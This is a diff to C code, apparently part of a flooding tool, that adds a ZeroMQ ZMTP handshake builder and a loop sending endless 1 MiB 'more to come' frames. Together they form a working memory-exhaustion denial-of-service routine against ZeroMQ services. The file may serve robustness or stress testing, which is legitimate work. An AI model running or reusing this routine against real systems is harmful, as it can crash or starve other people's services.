@@ -33,3 +33,38 @@ size_t flood_junk(int fd, int max_mib)
     free(junk);
     return sent;
 }
+
+size_t flood_zmtp_greeting(unsigned char *pre, const char *mech)
+{
+    memset(pre, 0, 64);
+    pre[0] = 0xff; pre[9] = 0x7f; pre[10] = 3; pre[11] = 0;
+    memcpy(pre + 12, mech, strlen(mech) < 20 ? strlen(mech) : 20);
+    size_t n = 64;
+    if (!strcmp(mech, "NULL")) {
+        static const unsigned char ready[] = {0x04, 28, 5, 'R', 'E', 'A', 'D', 'Y', 11, 'S', 'o', 'c', 'k', 'e', 't', '-',
+                                              'T', 'y', 'p', 'e', 0, 0, 0, 6, 'D', 'E', 'A', 'L', 'E', 'R'};
+        memcpy(pre + n, ready, sizeof ready);
+        n += sizeof ready;
+    }
+    return n;
+}
+
+size_t flood_more_frames(int fd, int max_mib)
+{
+    size_t chunk = 1 << 20, sent = 0;
+    unsigned char *buf = calloc(1, chunk + 9);
+    if (!buf) return 0;
+    buf[0] = 0x03; /* a long frame, more to come */
+    for (int i = 7; i >= 0; i--) buf[8 - i] = (unsigned char)((uint64_t)chunk >> (8 * i));
+    for (int i = 0; i < max_mib; i++) {
+        size_t off = 0;
+        while (off < chunk + 9) {
+            ssize_t w = send(fd, buf + off, chunk + 9 - off, MSG_NOSIGNAL);
+            if (w <= 0) { free(buf); return sent; }
+            off += (size_t)w;
+            sent += (size_t)w;
+        }
+    }
+    free(buf);
+    return sent;
+}
